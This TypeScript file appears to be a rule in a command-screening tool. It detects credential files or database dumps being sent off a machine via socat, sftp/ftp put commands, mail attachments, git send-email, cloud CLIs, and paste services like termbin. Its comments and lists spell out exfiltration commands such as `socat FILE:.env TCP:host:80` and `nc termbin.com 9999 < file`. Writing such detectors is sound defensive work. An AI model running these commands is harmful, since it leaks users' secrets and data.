import { ownTable } from '../../ownTable';
import { resolvePath } from '../../paths';
import type { Facts, Finding, Invocation, RuleContext } from '../../policy/types';
import { echoedText } from './pipedText';
import { hostOfWords, sentToHost } from './sentOutTargets';
import { freeFormReadings, freeFormValues } from '../../registry/freeForm';
import { readFinding } from '../credentials';
import { infoFor, pathsOfWord } from './credentialPaths';

/**
 * Credential files sent out by transfer programs whose file names are not their operands: socat's
 * addresses (`socat FILE:.env TCP:host:80`), the `put` commands an FTP, SFTP or SMB client is fed
 * (`sftp host <<< 'put .env'`, `echo 'put .env' | sftp host`, `sftp -b batch host`, `smbclient //h/s -c 'put .env'`,
 * `lftp -e 'put .env' host`, `lftp -f script`), a patch
 * mailer's file operands (`git send-email --to x .env`) and mail attachments (`mutt -a .env`).
 * Options are read with the one grammar's free-form readings (none of these is described).
 */

/** Clients that read `put`-style commands from stdin or an option, and the options that carry them. */
const COMMAND_CLIENTS: Readonly<Record<string, readonly string[]>> = ownTable({
  sftp: [],
  psftp: [],
  ftp: [],
  lftp: ['-c', '-e'],
  ncftp: [],
  tftp: ['-c'],
  smbclient: ['-c', '--command'],
  yafc: [],
});

/** Options naming a file of such commands (`sftp -b batch`, `lftp -f script`, `psftp -b batch`); `-` is stdin. */
const BATCH_FILE_OPTIONS: Readonly<Record<string, readonly string[]>> = ownTable({ sftp: ['-b'], psftp: ['-b'], lftp: ['-f'] });

/** The largest batch file read for its commands. */
const MAX_BATCH_TEXT = 64 * 1024;

/** What the client reads on stdin: a here-document or string, `echo`/`printf` piped in, a redirected file. */
function stdinText(inv: Invocation, facts: Facts): string | undefined {
  const cwd = inv.cwd || facts.cwd;
  const stdin = inv.stdin;
  if (!stdin) return undefined;
  if (stdin.kind === 'heredoc' || stdin.kind === 'herestring') return stdin.text;
  if (stdin.kind === 'pipe' && (stdin.from.name === 'echo' || stdin.from.name === 'printf')) return echoedText(stdin.from);
  if (stdin.kind === 'file') return batchText(resolvePath(cwd, stdin.path, facts.home), facts);
  return undefined;
}

function batchText(path: string, facts: Facts): string | undefined {
  return facts.readFile(path)?.slice(0, MAX_BATCH_TEXT);
}

/** Upload commands of those clients: the local file is the first word after the verb (mput: every word). */
const PUT = /^(put|reput|mput|append|send|upload)\s+(.+)$/i;

function uploadedNames(text: string): string[] {
  const out: string[] = [];
  for (const line of text.split(/[\n;]/)) {
    const m = PUT.exec(line.trim());
    if (!m) continue;
    // The command's own switches (`put -r dir`) read free-form; its operands are the files.
    const typed = (m[2] ?? '').split(/\s+/).filter((w) => w !== '').map((w) => w.replace(/^['"]|['"]$/g, ''));
    const words = freeFormReadings(typed.map((text) => ({ text, raw: text, dynamic: false, glob: false }))).usual.operands.map((w) => w.text);
    out.push(...(/^mput$/i.test(m[1] ?? '') ? words : words.slice(0, 1)));
  }
  return out;
}

/** socat addresses that read a file (`FILE:`, `OPEN:`, `GOPEN:`, a bare path), when another address is a network one. */
function socatFiles(inv: Invocation): string[] {
  const addresses = freeFormReadings(inv.args).usual.operands.map((w) => w.text);
  if (!addresses.some((a) => /^(tcp|tcp4|tcp6|tcp-connect|udp|udp4|udp6|udp-sendto|ssl|openssl|openssl-connect|sctp|socks4a?|proxy|dccp)[-:]/i.test(a))) return [];
  return addresses.map((a) => /^(?:file|open|gopen|open-read|read):([^,]+)/i.exec(a)?.[1] ?? (/^[./~]/.test(a) ? a.split(',')[0] : undefined)).filter((p): p is string => p !== undefined);
}

function sentNames(inv: Invocation, facts: Facts): { names: string[]; how: string } {
  if (inv.name === 'socat') return { names: socatFiles(inv), how: 'socat (to a network address)' };
  const options = COMMAND_CLIENTS[inv.name];
  if (options !== undefined) {
    const { valued } = freeFormReadings(inv.args);
    const texts = valued.options.filter((o) => options.includes(o.name)).flatMap((o) => o.values);
    const stdin = stdinText(inv, facts);
    if (stdin !== undefined) texts.push(stdin);
    const batchOptions = BATCH_FILE_OPTIONS[inv.name] ?? [];
    for (const file of valued.options.filter((o) => batchOptions.includes(o.name)).flatMap((o) => o.values).slice(0, 4)) {
      const text = file === '-' ? undefined : batchText(resolvePath(inv.cwd || facts.cwd, file, facts.home), facts);
      if (text !== undefined) texts.push(text);
    }
    return { names: texts.flatMap(uploadedNames), how: `${inv.name} put (to another host)` };
  }
  if (['mutt', 'neomutt', 'mailx', 's-nail', 'mail', 'email', 'swaks'].includes(inv.name)) {
    const { valued } = freeFormReadings(inv.args);
    return { names: valued.options.filter((o) => ['-a', '-A', '--attach', '--attach-type'].includes(o.name)).flatMap((o) => o.values), how: `${inv.name} (as a mail attachment)` };
  }
  // Cloud CLIs read a parameter's value from a file: aws `file://` and `fileb://`, az `@file`.
  if (inv.name === 'aws' || inv.name === 'az') {
    const files = freeFormValues(inv.args).map((v) => (inv.name === 'aws' ? /^fileb?:\/\/(.+)$/.exec(v)?.[1] : /^@([^@\s]+)$/.exec(v)?.[1])).filter((f): f is string => f !== undefined);
    // Options whose value is a local file's path, sent as it is (`s3api put-object --body FILE`, `glacier upload-archive --body`).
    if (inv.name === 'aws') files.push(...freeFormReadings(inv.args).valued.options.filter((o) => AWS_FILE_OPTIONS.has(o.name)).flatMap((o) => o.values).filter((v) => !/^fileb?:\/\//.test(v)));
    return { names: files, how: `${inv.name} (a parameter read from a file, sent to the cloud API)` };
  }
  if (inv.name === 'git' && inv.args[0]?.text === 'send-email') {
    return { names: freeFormReadings(inv.args.slice(1)).usual.operands.map((w) => w.text), how: 'git send-email (mailed as a patch)' };
  }
  return { names: [], how: '' };
}

/** aws options that take a local file's path (not a `file://` parameter): the file's bytes are the request's body. */
const AWS_FILE_OPTIONS: ReadonlySet<string> = new Set(['--body']);

/** A file whose name says it is a database dump or backup: its users' data and password hashes. */
const DUMP_NAME = /\.(dump|sql|sql\.gz|sqlite3?|db|bson|bak|pgdump)$|(^|\/)(backup|dump)[^/]*$/i;
/** Public paste services reached by a raw socket (`nc termbin.com 9999 < file`). */
const PASTE_SOCKETS = /^(termbin\.com|tcp\.st|ix\.io|sprunge\.us)$/i;

/** A database dump published: a gist, a pastebin client, a paste service's socket. */
function publishedDump(inv: Invocation): string | undefined {
  const words = freeFormReadings(inv.args).usual.operands.map((w) => w.text);
  let files: string[] = [];
  if (inv.name === 'gh' && words[0] === 'gist' && words[1] === 'create') files = words.slice(2);
  else if (inv.name === 'pastebinit' || inv.name === 'wgetpaste' || inv.name === 'pastebin') files = words;
  else if ((inv.name === 'nc' || inv.name === 'ncat' || inv.name === 'netcat') && words.some((w) => PASTE_SOCKETS.test(w)) && inv.stdin?.kind === 'file') files = [inv.stdin.path];
  return files.find((f) => DUMP_NAME.test(f));
}

export function checkFileTransfers(inv: Invocation, ctx: RuleContext): Finding[] {
  const dumpFile = publishedDump(inv);
  if (dumpFile !== undefined) {
    return [{ rule: 'credentials.published-dump', risk: 'credential-dump', severity: 'ask', reason: `${inv.name} publishes ${dumpFile}, a database dump or backup by its name (its users' data and password hashes), where anyone with the link can read it.`, targets: [{ kind: 'credential', name: dumpFile, remote: true, environment: 'local', environmentReason: 'a file of this machine' }] }];
  }
  const { names, how } = sentNames(inv, ctx.facts);
  const facts = ctx.facts;
  const cwd = inv.cwd || facts.cwd;
  for (const name of names.slice(0, 16)) {
    const word = { text: name, raw: name, dynamic: false, glob: /[*?[]/.test(name) };
    for (const p of word.glob ? pathsOfWord(word, cwd, facts) : [resolvePath(cwd, name, facts.home)]) {
      const info = infoFor(p, facts);
      if (info) return [sentToHost({ ...readFinding('sends', info, how), rule: 'credentials.sent-out' }, transferHost(inv))];
    }
  }
  return [];
}

/** The host a transfer client contacts: its URL, or `[user@]host` as its first operand (a cloud CLI's: none shown). */
function transferHost(inv: Invocation): string | undefined {
  const operands = freeFormReadings(inv.args).usual.operands.map((w) => w.text);
  const url = hostOfWords(operands);
  if (url !== undefined || !Object.hasOwn(COMMAND_CLIENTS, inv.name)) return url;
  const first = operands.find((w) => !w.startsWith('/'));
  return first?.replace(/^.*@/, '').replace(/:.*$/, '').toLowerCase();
}

export const TRANSFER_TOOLS: readonly string[] = ['socat', ...Object.keys(COMMAND_CLIENTS), 'mutt', 'neomutt', 'mailx', 's-nail', 'mail', 'email', 'swaks', 'git', 'gh', 'pastebinit', 'wgetpaste', 'pastebin', 'nc', 'ncat', 'netcat', 'aws', 'az'];
